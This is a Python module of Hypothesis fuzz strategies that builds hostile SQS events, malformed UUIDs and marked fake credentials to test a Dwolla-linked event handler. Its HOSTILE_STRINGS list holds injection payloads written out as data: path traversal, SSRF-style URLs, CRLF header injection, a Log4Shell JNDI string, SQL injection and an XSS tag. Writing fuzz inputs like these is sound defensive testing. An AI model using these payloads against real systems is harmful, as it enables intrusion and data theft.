"""Hypothesis strategies for hostile SQS bodies, event fields, Dwolla Locations and base URLs.

Shared settings keep the fuzz suite reproducible (derandomized, no example database) and fast enough
for `make test`.
"""

from __future__ import annotations

import json
import uuid
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

SQS_MAX_BODY = 256 * 1024
MARKER = "FUZZSECRET"  # every generated credential carries it, so a leak is easy to spot


def fuzz_settings(max_examples: int) -> settings:
    """Derandomized and database-less: the same examples on every machine and every CI run."""
    return settings(
        max_examples=max_examples,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
    )


# Any text, lone surrogates (category Cs) included: JSON can escape them and the parser must refuse them.
HOSTILE_CHARS = st.text(alphabet=st.characters(exclude_categories=()), max_size=40)
# Text a valid event may carry.
SAFE_TEXT = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40)

HOSTILE_STRINGS = [
    "",
    " ",
    "../../accounts/x",
    "..%2F..%2Faccounts%2Fx",
    "%2e%2e",
    "%2E%2E%2F%2E%2E",
    "..",
    "/",
    "//evil.example/x",
    "https://evil.example/customers/x",
    "http://127.0.0.1:1/exchanges",
    "\\\\evil.example\\share",
    "?x=1",
    "#frag",
    "a\nb",
    "\r\nX-Injected: 1",
    "\t",
    "\x00",
    "\u202e",  # right-to-left override
    "\ufeff",
    "\uff21\uff22\uff23",  # fullwidth ABC
    "é" * 3,
    "😀",
    "null",
    "true",
    "{}",
    "[]",
    "link.completed ",
    "LINK.COMPLETED",
    "${jndi:ldap://evil.example/a}",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
]

HOSTILE_VALUES: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    1.5,
    10**30,
    [],
    {},
    ["x"],
    {"a": "b"},
    {"nested": {"deep": [1]}},
]


def huge_strings() -> st.SearchStrategy[str]:
    """Up to SQS's 256 KiB body limit, cheaply (one repeated character)."""
    return st.builds(lambda n, c: c * n, st.integers(0, SQS_MAX_BODY - 4096), st.sampled_from(["A", "é", "/", "."]))


def hostile_text() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(HOSTILE_STRINGS), HOSTILE_CHARS)


def hostile_value() -> st.SearchStrategy[Any]:
    return st.one_of(hostile_text(), st.sampled_from(HOSTILE_VALUES), json_values())


def json_values() -> st.SearchStrategy[Any]:
    scalars = st.one_of(
        st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False), SAFE_TEXT
    )
    return st.recursive(
        scalars,
        lambda children: st.one_of(st.lists(children, max_size=4), st.dictionaries(SAFE_TEXT, children, max_size=4)),
        max_leaves=12,
    )


def uuid_spellings() -> st.SearchStrategy[str]:
    """Valid and almost-valid spellings of a UUID: case, braces, URN, no dashes, trailing junk."""

    def spell(value: uuid.UUID, form: int) -> str:
        text = str(value)
        return [
            text,
            text.upper(),
            "{" + text + "}",
            "urn:uuid:" + text,
            value.hex,
            text + "\n",
            text + "/../../accounts/x",
            "../" + text,
            text.replace("-", "%2D"),
            text.translate({ord(d): 0xFF10 + int(d) for d in "0123456789"}),  # fullwidth digits
            " " + text,
            text[:-1],
            text + "0",
        ][form]

    return st.builds(spell, st.uuids(), st.integers(0, 12))


def credential_values() -> st.SearchStrategy[str]:
    """Distinctive, so a test can search any output for them; some start like scripted Dwolla outcomes."""
    prefixes = st.sampled_from(["", "processor-sandbox-", "public-sandbox-", "pay_", "invalid-", "../"])
    return st.builds(
        lambda prefix, n, body: f"{prefix}{MARKER}{n}{body}",
        prefixes,
        st.integers(0, 10**6),
        st.text(alphabet=st.characters(exclude_categories=()), max_size=20),
    )


def finicity_receipts() -> st.SearchStrategy[dict[str, Any]]:
    return st.builds(
        lambda receipt_id, extra: {"profile": 3, "version": "1", "receiptId": receipt_id, **extra},
        credential_values(),
        st.dictionaries(st.sampled_from(["products", "timestamp", "nested"]), json_values(), max_size=2),
    )


VALID_KINDS = {  # partner -> credential kinds Dwolla accepts for it
    "Plaid": ["token", "plaid"],
    "MX": ["token", "mx"],
    "Flinks": ["token"],
    "Checkout.com": ["token"],
    "Finicity": ["finicity"],
}


# Built once: constructing strategies inside a composite on every draw dominates the run time.
CREDENTIALS = credential_values()
RECEIPTS = finicity_receipts()
HOSTILE_VALUE = hostile_value()
HUGE = huge_strings()
UUID_SPELLINGS = uuid_spellings()
EVENT_IDS = st.from_regex(r"[A-Za-z0-9._:-]{1,128}", fullmatch=True)
METADATA = st.dictionaries(SAFE_TEXT.filter(bool), SAFE_TEXT, max_size=3)


def credential_field(draw: st.DrawFn, kind: str) -> tuple[str, Any, str]:
    """(field name, field value, the secret string it holds)."""
    value = draw(CREDENTIALS)
    if kind == "token":
        return "token", value, value
    if kind == "plaid":
        return "plaid", {"publicToken": value}, value
    if kind == "mx":
        return "mx", {"availableConnectionToken": value}, value
    receipt = draw(RECEIPTS)
    return "finicity", receipt, receipt["receiptId"]


CORRUPTIONS = [
    "eventId",
    "eventType",
    "occurredAt",
    "customerId",
    "customerId-spelling",
    "partner",
    "metadata",
    "second-credential",
    "no-credential",
    "credential-shape",
    "unknown-field",
    "huge",
]


@st.composite
def event_dicts(draw: st.DrawFn) -> tuple[dict[str, Any], list[str]]:
    """A valid v1 event with zero to three fields made hostile. Returns (event, its credential strings).

    Starting from a valid event (rather than drawing every field freely) keeps a good share of the
    examples parseable, so the request-builder properties are exercised, not just the refusals.
    """
    partner = draw(st.sampled_from(list(VALID_KINDS)))
    kind = draw(st.sampled_from(VALID_KINDS[partner]))
    name, value, secret = credential_field(draw, kind)
    event: dict[str, Any] = {
        "eventId": draw(EVENT_IDS),
        "eventType": "link.completed",
        "partner": draw(st.sampled_from([partner, partner.upper(), partner.lower()])),
        name: value,
    }
    secrets = [secret]
    if kind in {"plaid", "mx"} or draw(st.booleans()):
        customer = str(draw(st.uuids()))
        event["customerId"] = customer.upper() if draw(st.booleans()) else customer
    if draw(st.booleans()):
        event["occurredAt"] = draw(st.sampled_from(["2026-11-20T18:04:05Z", "2026-11-20T18:04:05.123+02:00"]))
    if draw(st.booleans()):
        event["metadata"] = draw(METADATA)
    for corruption in draw(st.lists(st.sampled_from(CORRUPTIONS), max_size=3, unique=True)):
        if corruption == "customerId-spelling":
            event["customerId"] = draw(UUID_SPELLINGS)
        elif corruption == "second-credential":
            other, other_value, other_secret = credential_field(
                draw, draw(st.sampled_from(["token", "plaid", "mx", "finicity"]))
            )
            event[other] = other_value
            secrets.append(other_secret)
        elif corruption == "no-credential":
            event.pop(name, None)
        elif corruption == "credential-shape":
            event[name] = draw(st.sampled_from([[secret], {"value": secret}, {"publicToken": secret, "x": secret}]))
        elif corruption == "unknown-field":
            event[draw(st.sampled_from(["customerID", "customer_id", "Token", "extra"]))] = draw(HOSTILE_VALUE)
        elif corruption == "huge":
            event[draw(st.sampled_from(["eventId", "customerId", "partner", "token"]))] = draw(HUGE)
        else:
            event[corruption] = draw(HOSTILE_VALUE)
    return event, secrets


def envelope(payload: Any, kind: int) -> Any:
    """0: as is; 1: SNS→SQS; 2: EventBridge→SQS; 3: SNS around SNS; 4: SNS with a non-string Message."""
    if kind == 1:
        return {
            "Type": "Notification",
            "MessageId": "m",
            "TopicArn": "arn:aws:sns:us-east-1:123456789012:t",
            "Message": json.dumps(payload),
        }
    if kind == 2:
        return {"version": "0", "detail-type": "Link Completed", "source": "com.example", "detail": payload}
    if kind == 3:
        return envelope(envelope(payload, 1), 1)
    if kind == 4:
        return {"Type": "Notification", "TopicArn": "arn:aws:sns:us-east-1:123456789012:t", "Message": payload}
    return payload


def nested(depth: int, opener: str = "[") -> str:
    closer = {"[": "]", "{": "}"}[opener]
    if opener == "{":
        return '{"a":' * depth + "1" + closer * depth
    return opener * depth + closer * depth
